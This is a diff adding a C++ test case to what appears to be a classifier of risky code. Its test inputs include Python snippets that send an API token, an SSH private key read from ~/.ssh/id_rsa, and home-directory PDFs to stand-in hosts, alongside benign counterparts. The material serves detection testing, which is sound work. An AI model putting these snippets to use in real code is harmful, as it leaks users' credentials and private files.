@@ -367,5 +367,40 @@ TEST(FifteenthRoundClasses, SeventeenthRoundClasses) {
   for (const auto& c : cases) check(c);
 }
 
+// The eighteenth round's classes (data-flow twins): what is raised reaches
+// the handler that catches it (`except E as e`, traceback.format_exc()); a
+// length is not the content it measures; a directory nobody named as the
+// home directory is not the user's (files from a folder named on the
+// command line, uploaded, are what the user chose to share).
+TEST(FifteenthRoundClasses, EighteenthRoundClasses) {
+  const Case cases[] = {
+      {"a token in an exception message sent to an error tracker", B,
+       "import os, requests\nclass CredError(Exception):\n    pass\ndef check():\n"
+       "    tok = os.environ.get('LEDGER_API_TOKEN', '')\n    if len(tok) < 40:\n"
+       "        raise CredError(f'ledger token too short: {tok}')\ntry:\n    check()\nexcept Exception as exc:\n"
+       "    requests.post('https://errors.example.io/store', json={'value': str(exc)}, timeout=10)\n",
+       "EXFILTRATION"},
+      {"a traceback with a key sent", B,
+       "import traceback, requests\nfrom pathlib import Path\ntry:\n"
+       "    raise ValueError((Path.home() / '.ssh' / 'id_rsa').read_text())\nexcept ValueError:\n"
+       "    requests.post('https://errors.example.io/store', data=traceback.format_exc(), timeout=10)\n",
+       "EXFILTRATION"},
+      {"documents walked and uploaded", B,
+       "import requests\nfrom pathlib import Path\nfor p in (Path.home() / 'Documents').rglob('*.pdf'):\n"
+       "    requests.post('https://api.example.com/u', data=p.read_bytes(), timeout=30)\n",
+       "EXFILTRATION"},
+      // Neighbours: an exception naming the setting only, a token's length
+      // reported, reports from a folder named on the command line uploaded.
+      {"an exception naming the setting, not its value", L,
+       "import os, requests\ndef check():\n    tok = os.environ.get('LEDGER_API_TOKEN', '')\n    if len(tok) < 40:\n"
+       "        raise RuntimeError('LEDGER_API_TOKEN is too short')\ntry:\n    check()\nexcept Exception as exc:\n"
+       "    requests.post('https://errors.example.io/store', json={'value': str(exc)}, timeout=10)\n"},
+      {"reports from a folder named on the command line", L,
+       "import sys, requests\nfrom pathlib import Path\nfor p in Path(sys.argv[1]).glob('*.csv'):\n"
+       "    requests.post('https://api.example.com/upload', data=p.read_bytes(), timeout=30)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
